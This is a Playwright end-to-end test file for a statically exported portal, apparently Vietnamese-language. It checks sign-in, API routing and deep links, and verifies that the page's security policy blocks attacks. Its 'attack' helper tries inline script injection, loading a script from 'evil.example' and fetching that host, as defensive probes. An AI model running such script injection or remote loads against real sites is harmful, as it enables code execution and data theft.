import path from 'node:path';
import type { Page } from '@playwright/test';
import { removeFolder, temporaryFolder } from '../support/data-folder.ts';
import { freshPortalTest } from '../support/fresh-portal.ts';
import { goByMenu } from '../support/menus.ts';
import { keysDir } from '../support/places.ts';
import { activeRelease, registryOf, release } from '../support/release.ts';
import { loginForm, sendLogin } from '../support/sign-in.ts';
import { serveSite } from '../support/static-site.ts';
import { expect, mainPortalUrl, test } from '../support/test.ts';

/** Tries to make script of text, to load one from elsewhere, and to send something there; whether any script ran. */
const attack = (page: Page) =>
  page.evaluate(async () => {
    const tries = [
      () => document.body.setAttribute('onclick', 'globalThis.ran = true'),
      () => document.body.click(),
      () => Reflect.set(document.createElement('script'), 'src', 'https://evil.example/x.js'),
      () => fetch('https://evil.example/'),
    ];
    for (const one of tries) {
      try {
        await one();
      } catch {
        // Refused: the page's policy reports it.
      }
    }
    return 'ran' in globalThis;
  });

test('@cross SEC-41 the portal as files behind a plain server that hands /api on: sign-in, all remotes, a deep address, its policy in force', async ({
  page,
  watch,
}) => {
  test.setTimeout(120_000);
  // Where the operator's token is; for a portal elsewhere it is beside the keys.
  const dataDir = process.env.E2E_PORTAL_DATA ?? path.dirname(keysDir);
  const portal = { url: mainPortalUrl(), dataDir };
  const folder = await temporaryFolder('site');
  const out = path.join(folder, 'site');
  await release(portal, 'export', '--out', out);

  // With the headers of `_headers`: that policy and the one in each page let all of the portal do its work.
  const site = await serveSite(out, portal.url, { headers: true });
  const origins = new Set<string>();
  const calls = new Map<string, number>();
  page.on('response', (response) => {
    const { origin, pathname } = new URL(response.url());
    origins.add(origin);
    if (pathname.startsWith('/api/')) calls.set(pathname, response.status());
  });
  await page.goto(`${site.url}/login`);
  await sendLogin(loginForm(page), '20000009');
  await expect(page.getByRole('heading', { level: 1, name: /^Chào buổi/ })).toBeVisible();
  await goByMenu(page, 'Hợp đồng', 'Tra cứu hợp đồng');
  await page.getByRole('table').getByRole('link').first().click();
  await expect(page.getByRole('tab').first()).toBeVisible();
  // An address with a variable is no file: 404.html starts the portal, which draws the page.
  watch.allow(/404 \(Not Found\) \(\S+\/policy-management\/detail\//);
  await page.reload();
  await expect(page.getByRole('tab').first()).toBeVisible();
  await goByMenu(page, 'Cá nhân', 'Cài đặt tài khoản');
  await expect(page.getByRole('main')).toContainText('20000009');
  expect([...origins]).toEqual([site.url]);
  expect(calls.get('/api/releases/mine')).toBe(200);
  expect([...calls].filter(([, status]) => status >= 400)).toEqual([]);

  // From a server that sends no header at all, the page's own policy is the only one.
  const plain = await serveSite(out, portal.url, { headers: false });
  await page.goto(`${plain.url}/login`);
  await expect(loginForm(page)).toBeVisible();
  expect(watch.faults()).toEqual([]);
  expect(await attack(page)).toBe(false);
  const refused = () => watch.faults().flatMap((fault) => /^policy: (\S+)/.exec(fault)?.[1] ?? []);
  await expect
    .poll(() => [...new Set(refused())].sort())
    .toEqual(['connect-src', 'require-trusted-types-for']);
  watch.allow(/evil\.example/, /Trusted|globalThis\.ran/);
  // First the page, whose reports must all be received.
  await page.close();
  await Promise.all([site.close(), plain.close()]);
  await removeFolder(folder);
});

const own = freshPortalTest('site-export');

own(
  '@cross a portal as files starts for who comes back after promotions that it does not know',
  async ({ page, fresh }) => {
    const folder = await temporaryFolder('site');
    const out = path.join(folder, 'site');
    await release(fresh, 'export', '--out', out);
    const site = await serveSite(out, fresh.url, { headers: true });
    await page.goto(`${site.url}/login`);
    await expect(loginForm(page)).toBeVisible();
    const serial = async () => (await registryOf(fresh.url)).serial;
    const exported = await serial();
    const { current } = await activeRelease(fresh.url, 'policy');
    for (const channel of ['canary', 'qa']) {
      await release(fresh, 'promote', `policy@${current.version}`, '--channel', channel);
    }
    expect(await serial()).toBeGreaterThan(exported);
    // Signing in asks for the set, whose serial the files do not bear.
    const heard = page.waitForResponse('**/api/releases/mine');
    await sendLogin(loginForm(page), '20000009');
    expect((await heard).status()).toBe(200);
    await expect(page.getByRole('heading', { level: 1, name: /^Chào buổi/ })).toBeVisible();
    const marks = () => page.evaluate(() => localStorage.getItem('portal.registrySerials') ?? '');
    await expect.poll(marks).toContain(String(await serial()));

    for (const address of ['/policy-management', '/']) {
      const setResponse = page.waitForResponse('**/api/releases/mine');
      await page.goto(site.url + address);
      expect((await setResponse).status()).toBe(200);
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
      await expect(page.getByRole('alert')).toHaveCount(0);
    }
    await page.close();
    await site.close();
    await removeFolder(folder);
  },
);
